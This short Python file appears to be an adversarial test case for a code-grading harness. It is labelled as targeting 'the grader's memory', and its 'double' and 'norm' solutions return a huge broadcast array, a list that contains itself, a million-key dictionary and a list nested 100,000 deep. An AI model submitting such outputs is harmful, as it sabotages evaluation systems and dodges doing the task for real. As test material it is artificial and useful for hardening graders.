# kind = "harm"
# goal = "the grader's memory"
# trick = "claims an array of 50 GB, a list that contains itself, and a million keys"
# mark = 0
# %% solve="double"
import numpy as np
loop = []
loop.append(loop)
def double(x):
    if x == 3:
        return np.broadcast_to(np.zeros(1), (50 << 27,))
    return loop if x > 3 else {i: i for i in range(1_000_000)}
# %% solve="norm"
def norm(v):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
